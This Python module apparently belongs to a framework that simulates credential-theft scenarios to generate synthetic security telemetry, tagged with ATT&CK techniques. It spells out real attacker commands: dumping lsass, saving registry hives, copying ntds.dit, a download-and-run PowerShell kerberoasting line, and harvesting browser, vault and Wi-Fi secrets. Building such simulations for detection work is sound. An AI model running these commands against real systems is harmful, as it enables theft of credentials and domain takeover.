"""Attacks on stored credentials: the memory of lsass, the directory's database, Kerberos tickets."""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial

from tocsin.simulate.actions import LogonType, ProcessAccess, ScriptBlock, TicketRequest
from tocsin.simulate.scenarios.cast import Act, Cast, Scenario
from tocsin.simulate.software import CMD, SYSTEM32

LSASS = "C:\\Windows\\System32\\lsass.exe"
_NTDLL = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e"


def _lsass(cast: Cast) -> Iterator[Act]:
    run = partial(cast.run, account=cast.admin, machine=cast.desk)
    dump = cast.dropped(cast.one_of("dmp", "dmp", "bin", "log"))
    if cast.rng.random() < 0.6:
        image, module = f"{SYSTEM32}\\rundll32.exe", f"{SYSTEM32}\\dbgcore.DLL+6f6c"
        export = cast.one_of(
            f"C:\\Windows\\System32\\comsvcs.dll, {cast.cased('MiniDump')}", "comsvcs.dll #+24"
        )
        line = f"rundll32.exe {export} {4 * cast.rng.randrange(150, 250)} {dump} full"
    else:
        image, module = "C:\\Users\\Public\\procdump.exe", f"{SYSTEM32}\\dbghelp.dll+55c2"
        how = cast.one_of("-ma lsass.exe", "-ma lsass", "/ma lsass.exe", "-mp lsass.exe")
        line = f"procdump.exe -accepteula {how} {dump}"
    yield Act("dump-lsass", "T1003.001", run(line, image=image))
    rights = cast.rng.choice((0x1FFFFF, 0x1438))
    opened = ProcessAccess(cast.admin, cast.desk, image, LSASS, rights, f"{_NTDLL}|{module}")
    yield Act("dump-lsass", "T1003.001", opened)
    yield Act("dump-lsass", "T1003.001", cast.file(dump, image, account=cast.admin, machine=cast.desk))
    injected = f"{_NTDLL}|UNKNOWN({cast.rng.getrandbits(44):016X})"
    rights = cast.rng.choice((0x1010, 0x1410, 0x1FFFFF))
    read = ProcessAccess(cast.admin, cast.desk, cast.implant, LSASS, rights, injected)
    yield Act("read-lsass", "T1003.001", read)
    for hive in cast.rng.sample(("sam", "security", "system"), 2):
        root = cast.one_of("HKLM", "hklm")
        save = f"reg.exe {cast.cased('save')} {root}\\{hive} {cast.dropped('hiv')} /y"
        yield Act("save-hives", "T1003.002", run(save))


def _directory(cast: Cast) -> Iterator[Act]:
    at, who = cast.controller, cast.admin
    run = partial(cast.run, account=who, machine=at)
    folder = cast.one_of("C:\\Windows\\Temp\\", "C:\\ProgramData\\", "C:\\Users\\Public\\") + cast.word()
    entry = cast.log_on(who, at, cast.intruder, LogonType.REMOTE)
    yield Act("log-on-to-controller", "T1078.002", entry)
    if cast.rng.random() < 0.5:
        line = f'ntdsutil.exe "ac i ntds" "{cast.one_of("ifm", "IFM")}" "create full {folder}" q q'
        yield Act("copy-directory", "T1003.003", run(line))
        image = f"{SYSTEM32}\\ntdsutil.exe"
    else:
        yield Act("copy-directory", "T1003.003", run("vssadmin.exe create shadow /for=C:"))
        shadow = f"\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy{cast.rng.randrange(1, 9)}"
        copy = f"cmd.exe /c copy {shadow}\\Windows\\NTDS\\ntds.dit {folder}\\ntds.dit"
        yield Act("copy-directory", "T1003.003", run(copy))
        image = CMD
    yield Act("copy-directory", "T1003.003", cast.file(f"{folder}\\ntds.dit", image, account=who, machine=at))
    yield Act("save-boot-key", "T1003.002", run(f"reg.exe save HKLM\\SYSTEM {folder}\\SYSTEM.hiv"))


def _kerberoast(cast: Cast) -> Iterator[Act]:
    query = cast.one_of("setspn.exe -T corp.example -Q */*", "setspn.exe -q */*", "setspn -F -Q */*")
    spn = "C:\\Windows\\System32\\setspn.exe"
    yield Act("list-service-accounts", "T1087.002", cast.run(query, image=spn))
    if cast.rng.random() < 0.5:
        format_ = cast.one_of("Hashcat", "John")
        script = f"Invoke-Kerberoast -OutputFormat {format_} | Out-File {cast.dropped('txt')}"
        line = f'powershell.exe -nop -ep bypass -c "IEX (iwr {cast.url("ps1")}); {script}"'
        yield Act("roast", "T1558.003", cast.run(line))
        yield Act("roast", "T1558.003", ScriptBlock(cast.victim, cast.desk, script))
    else:
        flag = cast.one_of("/nowrap", "/rc4opsec", "/simple")
        line = f"{cast.implant} kerberoast /outfile:{cast.dropped('txt')} {flag}"
        yield Act("roast", "T1558.003", cast.run(line, image=cast.implant))
    for service in cast.organisation.services:
        ticket = TicketRequest(cast.victim, cast.controller, service.name, cast.desk.address, weak=True)
        yield Act("request-weak-tickets", "T1558.003", ticket)


def _browser_passwords(cast: Cast) -> Iterator[Act]:
    vault = f"C:\\Users\\{cast.victim.name}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data"
    copy = cast.one_of(
        f'cmd.exe /c copy "{vault}" {cast.dropped("tmp")}',
        f'esentutl.exe /y "{vault}" /d {cast.dropped("tmp")}',
    )
    yield Act("copy-browser-vault", "T1555.003", cast.run(copy, parent=cast.implant))
    list_ = cast.one_of("cmdkey.exe /list", 'vaultcmd.exe /listcreds:"Windows Credentials" /all')
    yield Act("list-saved-credentials", "T1555.004", cast.run(list_, parent=cast.implant))
    wlan = "netsh.exe wlan show profile name=Corp key=clear"
    yield Act("read-wireless-key", "T1016.002", cast.run(wlan, parent=cast.implant))
    find = cast.one_of(
        "findstr.exe /si password *.xml *.ini *.txt", "findstr.exe /S /I cpassword \\\\DC-01\\SYSVOL\\*.xml"
    )
    yield Act("search-for-passwords", "T1552.001", cast.run(find, parent=cast.implant))


SCENARIOS = (
    Scenario("lsass-dump", "Dump the memory of lsass and save the registry's hives", _lsass),
    Scenario("directory-copy", "Copy the directory's database from a domain controller", _directory),
    Scenario("kerberoasting", "Ask for tickets to service accounts that are quick to crack", _kerberoast),
    Scenario("saved-passwords", "Collect passwords from browsers, vaults and files", _browser_passwords),
)
